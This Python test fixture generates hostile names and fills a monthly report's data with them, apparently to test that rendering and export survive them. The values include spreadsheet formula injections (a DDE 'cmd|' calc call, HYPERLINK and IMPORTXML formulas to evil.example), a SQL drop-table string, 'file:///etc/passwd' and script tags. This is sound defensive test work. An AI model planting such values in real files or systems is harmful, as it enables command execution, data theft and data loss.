"""Names that nobody should trust, and a month's facts in which they stand everywhere."""

from __future__ import annotations

from collections.abc import Callable, Sequence
from dataclasses import replace
from datetime import datetime
from typing import TypeVar

from data.campaigns.campaigns import Campaign
from data.competitors.records import Figure, Release
from data.state import Note
from metrics.behaviour.intervals import share
from metrics.behaviour.modules import NeverUsed
from metrics.campaigns.attribution import MODELS
from metrics.campaigns.effects import no_effect
from metrics.campaigns.results import Cost, Result
from metrics.competitors.features import gaps, matrix
from metrics.risk.events import ClassRow, Theme
from metrics.risk.fraud import Totals
from reports.month.facts import Facts
from reports.month.facts_bank import Decided, LoadedFile, Refused
from reports.month.facts_business import Campaigns, ChannelCost, Part
from reports.month.facts_people import Competitors

T = TypeVar("T")
AT = datetime.fromisoformat("2026-10-05T08:00")
_BEGINNINGS = (
    "=", "+", "-", "@", "\t=", "\r\n=", " =", "'=", "|", "%", "\u202e=", "\ufeff=", "＝", "\u200b=",
    "=\u200b",
)  # fmt: skip
_BODIES = (
    "1+1", "SUM(A1:A9)", 'HYPERLINK("http://evil.example","pay")', "cmd|'/c calc'!A0",
    "[Book.xlsx]Sheet1!A1", 'IMPORTXML("http://evil.example","//a")', "WEBSERVICE(A1)", "A1",
)  # fmt: skip
_OTHERS = (
    "<f>1+1</f>", "]]><c>", "&amp;&#61;1", "<script>x</script>", "a\x00b", "a\x08\x1fb", "\ud800x",
    "x\udfff", "\ufffex", "\uffff y", "_x003D_1+1", "_x000D_", "__x005F_", "שלום =1", "مرحبا",
    "\u202dabc\u202c", "e\u0301\u0301\u0301", "𝔘𝔫𝔦", "👩‍👩‍👧‍👦 bank", "x" * 40_000, "分" * 5_000,
    "http://evil.example/a?b=c&d", "file:///etc/passwd", "mailto:a@b.c", "\\\\host\\share",
    "{=1+1}", "#REF!", "#N/A", "TRUE", "1e5", "2026-10-01", "'; drop table txn; --",
    "%s {0} {name}", "{told} {place}", "&P of &N &[File]", "a;b,c\td", "name\nsecond line",
)  # fmt: skip
NAMES = (*(begin + body for begin in _BEGINNINGS for body in _BODIES), *_OTHERS)[:155]


def each(make: Callable[[int, str], T]) -> tuple[T, ...]:
    """A record for every name."""
    return tuple(make(number, name) for number, name in enumerate(NAMES))


def poisoned(facts: Facts) -> Facts:
    """The facts with the names in the place of everything that data or people name.

    Branches have a name each, as many as there are; see ``with_branches`` for the others.
    """
    leaves = list(facts.tree.indicators)
    return replace(
        with_branches(facts, NAMES),
        who=NAMES[2],
        notes=each(lambda n, text: _note(n, text, leaves[n % len(leaves)])),
        campaigns=_campaigns(facts),
        competitors=_competitors(facts),
        business=replace(facts.business, modules=each(_part), products=each(_part),
                         channels=each(lambda _n, name: ChannelCost(name, 9.0, 9.0))),
        risk=replace(
            facts.risk,
            fraud=each(lambda _n, name: Totals(name, 9, 3, 1, 5.0)),
            classes=each(lambda _n, name: ClassRow(name, (1, 1, 1), 1.0, 1.0, 0, 0, 1.0)),
            complaints=each(lambda _n, name: Theme(name, 3, 1, 2.0, 0)),
        ),
        behaviour=replace(
            facts.behaviour, never_used=each(lambda _n, name: NeverUsed(name, share(9, 10), True))
        ),
        decided=_experiments(facts),
        quality=replace(
            facts.quality,
            files=each(lambda _n, name: LoadedFile(name, name, AT, name, 1, 1, 0, name)),
            refused=each(lambda n, name: Refused(f"t{n}", name, 1)),
        ),
    )  # fmt: skip


def with_branches(facts: Facts, names: Sequence[str]) -> Facts:
    """The facts with other names of the branches that are ranked."""
    ranked = [one.branch for one in facts.ranking]
    renamed = {
        key: replace(facts.places[key], name_zh=name, name_en=name)
        for key, name in zip(ranked, names, strict=False)
    }
    return replace(facts, places={**facts.places, **renamed})


def _part(_number: int, name: str) -> Part:
    return Part(name, name, name, name, name, 3.0, 2.0, 1.0)


def _note(number: int, text: str, indicator: str) -> Note:
    return Note(number, indicator, None, None, text, text, AT, None)


def _campaigns(facts: Facts) -> Campaigns:
    found = facts.campaigns
    contacts, part = found.contacts, found.results[0].participants
    none = no_effect("no_holdout")

    def result(number: int, name: str) -> Result:
        day = AT.date()
        about = Campaign(
            f"C{number}", name, name, "spread", name, day, day, 1.0, AT, None, AT, name
        )
        return Result(about, contacts, part, Cost(1.0, 1.0), none, none, none)

    credit = {model: dict.fromkeys(NAMES, 1.0) for model in MODELS}
    credited = replace(found.attribution, credit=credit)
    return replace(found, results=each(result), attribution=credited)


def _competitors(facts: Facts) -> Competitors:
    last = facts.period.last

    def figure(number: int, name: str) -> Figure:
        return Figure(
            f"F{number}", name, last, last, name, name, 1.0, None, None, name, name, name, name
        )

    def release(number: int, name: str) -> Release:
        return Release(f"R{number}", last, name, name, f"{number} {name}", "new", name)

    shipped = each(release)
    rows = matrix(shipped, last)
    return Competitors(each(figure), shipped, rows, gaps(rows, last))


def _experiments(facts: Facts) -> tuple[Decided, ...]:
    one = facts.decided[0].experiment

    def decided(number: int, name: str) -> Decided:
        steps = tuple(
            replace(
                step, who=name, reason=name,
                plan=None if step.plan is None
                else replace(step.plan, name_zh=name, name_en=name, hypothesis=name, owner=name),
            )
            for step in one.steps
        )  # fmt: skip
        return Decided(replace(one, id=f"E{number}", steps=steps), facts.decided[0].analysis)

    return each(decided)
